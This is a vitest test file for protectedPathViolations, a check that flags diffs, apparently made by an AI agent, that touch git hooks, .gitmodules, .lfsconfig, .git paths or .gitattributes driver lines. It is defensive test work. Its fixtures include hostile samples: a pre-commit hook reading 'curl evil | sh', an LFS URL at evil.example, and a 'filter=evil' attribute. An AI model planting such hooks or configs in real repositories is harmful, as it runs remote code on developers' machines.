import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { protectedPathViolations } from '../../src/review/index.js';
import { cleanGit } from '../helpers/clean-git.js';

/**
 * Issue 9, finding 2 (last bullet): an agent's change never writes `.git`, `.gitattributes`
 * lines that change diff/filter/merge drivers, submodules or hook paths. The diffs are made
 * by real git with the flags the workspace uses for the staged diff.
 */
let repo: string;

beforeAll(async () => {
  repo = await mkdtemp(path.join(tmpdir(), 'tp-protected-'));
  await cleanGit(repo, ['init', '--quiet', '-b', 'main']);
  await writeFile(path.join(repo, 'README.md'), 'hello\n');
  await writeFile(path.join(repo, '.gitattributes'), '*.md text\n');
  await cleanGit(repo, ['add', '-A']);
  await cleanGit(repo, ['commit', '--quiet', '-m', 'base']);
});

afterAll(async () => {
  await rm(repo, { recursive: true, force: true });
});

/** Writes files, stages everything, returns the staged diff and resets the repository. */
async function stagedDiff(files: Record<string, string>): Promise<string> {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(repo, name)), { recursive: true });
    await writeFile(path.join(repo, name), content);
  }
  await cleanGit(repo, ['add', '-A']);
  const { stdout } = await cleanGit(repo, [
    'diff',
    '--cached',
    '--text',
    '--no-textconv',
    '--no-ext-diff',
    '--no-color',
    '--no-renames',
  ]);
  await cleanGit(repo, ['reset', '--quiet', '--hard']);
  await cleanGit(repo, ['clean', '-fdq']);
  return stdout;
}

describe('protectedPathViolations', () => {
  it('passes an ordinary change, harmless attributes included', async () => {
    const diff = await stagedDiff({
      'src/a.ts': 'export const a = 1;\n',
      '.gitattributes': '*.md text\n*.sh text eol=lf\n*.png -text\ndocs/** linguist-documentation\n',
      'docs/.github/workflow.md': 'not a hook\n',
    });
    expect(diff).toContain('src/a.ts');
    expect(protectedPathViolations(diff)).toEqual([]);
  });

  it.each([
    ['*.cfg -diff', '-diff'],
    ['*.cfg diff=hide', 'diff=hide'],
    ['*.js filter=evil', 'filter=evil'],
    ['*.lock merge=ours', 'merge=ours'],
    ['*.bin binary', 'binary'],
    ['*.txt !diff', '!diff'],
    ['[attr]quiet -diff -merge', '[attr]'],
    ['"with space.cfg" -diff', '-diff'],
  ])('refuses .gitattributes line %s', async (line, shown) => {
    const diff = await stagedDiff({ '.gitattributes': `*.md text\n${line}\n` });
    const found = protectedPathViolations(diff);
    expect(found).toHaveLength(1);
    expect(found[0]).toContain('.gitattributes');
    expect(found[0]).toContain(shown);
  });

  it('refuses driver attributes in a nested .gitattributes too', async () => {
    const diff = await stagedDiff({ 'sub/dir/.gitattributes': '* filter=lfs\n' });
    expect(protectedPathViolations(diff)).toEqual([
      expect.stringMatching(/^sub\/dir\/\.gitattributes: .*filter=lfs/),
    ]);
  });

  it.each([
    ['.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = ../other.git\n', '.gitmodules'],
    ['vendor/.GitModules', 'x\n', '.gitmodules'],
    ['.lfsconfig', '[lfs]\n\turl = http://evil.example/\n', '.lfsconfig'],
    ['.husky/pre-commit', 'curl evil | sh\n', '.husky/'],
    ['.githooks/post-checkout', 'id\n', '.githooks/'],
    ['tools/.husky/_/husky.sh', 'x\n', '.husky/'],
  ])('refuses %s', async (file, content, shown) => {
    const found = protectedPathViolations(await stagedDiff({ [file]: content }));
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(file);
    expect(found[0]).toContain(shown);
  });

  it('refuses an empty hook file (a diff with no ---/+++ lines) and a file with spaces in its name', async () => {
    const found = protectedPathViolations(
      await stagedDiff({ '.husky/pre-push': '', '.githooks/my hook.sh': 'x\n' }),
    );
    expect(found.sort()).toEqual([
      expect.stringContaining('.githooks/my hook.sh'),
      expect.stringContaining('.husky/pre-push'),
    ]);
  });

  it('refuses a quoted (unusual) path in a hook directory', async () => {
    const diff = await stagedDiff({ '.husky/h\u00e9\tx': 'x\n' });
    expect(diff).toContain('"a/.husky/');
    expect(protectedPathViolations(diff)).toEqual([expect.stringContaining('.husky/h\u00e9\tx')]);
  });

  it('refuses an embedded repository (gitlink)', async () => {
    const inner = path.join(repo, 'inner');
    await mkdir(inner);
    await cleanGit(inner, ['init', '--quiet', '-b', 'main']);
    await cleanGit(inner, ['commit', '--quiet', '--allow-empty', '-m', 'x']);
    const found = protectedPathViolations(await stagedDiff({}));
    expect(found).toEqual([expect.stringMatching(/^inner: an embedded repository/)]);
  });

  it('refuses .git segments, any case, and renames/copies of .gitattributes (content not shown)', () => {
    const diff = [
      'diff --git a/sub/.GIT/config b/sub/.GIT/config',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/sub/.GIT/config',
      '@@ -0,0 +1 @@',
      '+[core]',
      'diff --git a/x/git~1/HEAD b/x/git~1/HEAD',
      'new file mode 100644',
      'diff --git a/notes.txt b/.gitattributes',
      'similarity index 100%',
      'rename from notes.txt',
      'rename to .gitattributes',
    ].join('\n');
    const found = protectedPathViolations(diff);
    expect(found).toEqual([
      expect.stringMatching(/^sub\/\.GIT\/config: .*\.git/),
      expect.stringMatching(/^x\/git~1\/HEAD: .*\.git/),
      expect.stringMatching(/^\.gitattributes: .*without its content/),
    ]);
  });
});
